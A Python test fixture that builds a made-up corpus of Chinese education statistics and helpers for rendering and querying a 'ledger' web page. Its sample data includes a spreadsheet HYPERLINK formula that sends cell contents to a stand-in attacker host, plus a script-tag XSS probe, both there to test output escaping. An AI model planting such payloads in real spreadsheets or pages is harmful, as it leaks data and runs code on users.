"""A made-up ledger: two documents, two departments, a measure over three years, and words that mean harm."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import urlencode

from lxml import html
from starlette.requests import Request

from kg.model import (
    Corpus,
    Document,
    Evidence,
    Facts,
    Figure,
    Initiative,
    Official,
    Organization,
    Period,
    PlaceEntity,
    Post,
    Relation,
)
from kg.serve.index.read import Index
from kg.serve.index.write import write_index
from kg.serve.pages import ledger as ledger_page

CITY, DISTRICT = "organization/云岭市教育局", "organization/青溪区教育局"
PERSON, SPRING = "official/李敏@云岭市教育局", "initiative/春苗行动"
Y2023, Y2024, Y2025 = (Period(f"{y}-01-01", f"{y}-12-31") for y in (2023, 2024, 2025))
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"打开")'
SCRIPT = "<script>alert(1)</script>"
# measure, quote, what else is said; in the order of the text
OLD: tuple[tuple[str, str, dict[str, Any]], ...] = (
    ("入园率", "93.5%", {"value": "93.5", "period": Y2023, "actor": (CITY,), "speaker": PERSON}),
    ("入园率", "95%以上", {"value": "95", "comparator": "at_least", "status": "target", "period": Y2024, "actor": (CITY,), "initiative": SPRING}),
    ("入园率", "88%", {"value": "88", "period": Y2023, "actor": (DISTRICT,)}),
    ("培训教师", "2至3万人", {"value": "20000", "upper": "30000", "unit": "人", "comparator": "range", "actor": (CITY,)}),
    ("经费", "1580余万元", {"value": "15800000", "unit": "元", "comparator": "more_than", "period": Period(None, "2023-06-30"), "actor": (CITY, DISTRICT)}),
)
NEW: tuple[tuple[str, str, dict[str, Any]], ...] = (
    ("入园率", "96%", {"value": "96", "period": Y2024, "actor": (CITY,), "speaker": PERSON}),
    ("入园率", "增长2.5%", {"value": "2.5", "change": "increase", "period": Y2024, "actor": (CITY,)}),
    ("入园率", "98%", {"value": "98", "status": "target", "obligation": "binding", "period": Period("2025-01-01", "2026-12-31"), "actor": (CITY,)}),
    (HOSTILE, "-2+3%", {"value": "0.10000000000000000001", "change": "decrease"}),
    (SCRIPT, "12345678901234567890个", {"value": "12345678901234567890", "unit": "个", "period": Period("1850-05-01", "2025-02-01")}),
)  # fmt: skip


def sample_corpus() -> Corpus:
    city, district = PlaceEntity("place/云岭市", "云岭市"), PlaceEntity("place/青溪区", "青溪区", within="place/云岭市")
    seen = (Evidence(0, 2, "数字"),)
    bodies = tuple(Organization(own, own.split("/")[1], (), "government", None, place, seen) for own, place in ((CITY, city.id), (DISTRICT, district.id)))
    person = Official(PERSON, "李敏", (Post(CITY, "局长", False, seen),), seen)
    spring = Initiative(SPRING, "“春苗”行动", ("春苗",), "action", mentions=seen)

    leads = Relation(CITY, "leads", SPRING, seen)

    def facts(own: str, title: str | None, published: str, said: tuple[tuple[str, str, dict[str, Any]], ...]) -> Facts:
        text, figures = "数字：", []
        for measure, words_, more in said:
            fields = {"unit": "%", "comparator": "equal", "status": "actual", "actor": ()} | more
            for name in ("value", "upper"):
                if name in fields:
                    fields[name] = Decimal(fields[name])
            figures.append(Figure(f"figure/{own}/{len(text)}", words_, len(text), len(text) + len(words_), measure=measure, **fields))
            text += words_ + "，"
        document = Document(own, text, own, title, "云岭日报", published)
        return Facts(document, (city, district), (person,), bodies, (spring,), tuple(figures), (), (leads,))

    return Corpus((facts("2023/a.txt", "二〇二三年教育发布", "2023-12-01", OLD), facts("b.txt", None, "2025", NEW)))


def sample_index(folder: Path) -> Index:
    corpus = sample_corpus()
    write_index(corpus, folder / "index.sqlite", {"base": "https://example.org/"})
    return Index(folder / "index.sqlite")


def request(index: Index, query: str, path: str = "/ledger") -> Request:
    scope = {"type": "http", "method": "GET", "path": path, "query_string": query.encode(), "headers": [(b"host", b"127.0.0.1:8000")]}
    return Request(scope | {"scheme": "http", "state": {"snapshot": SimpleNamespace(index=index)}})


def opened(index: Index, lang: str = "zh", **given: Any) -> Any:
    response = ledger_page.page(request(index, urlencode({"lang": lang} | given, doseq=True)))
    assert response.status_code == 200, response.headers.get("location")
    return html.document_fromstring(bytes(response.body).decode("utf-8"))


def shown(page: Any, xpath: str) -> list[str]:
    return [" ".join(x.text_content().split()) for x in page.xpath(xpath)]
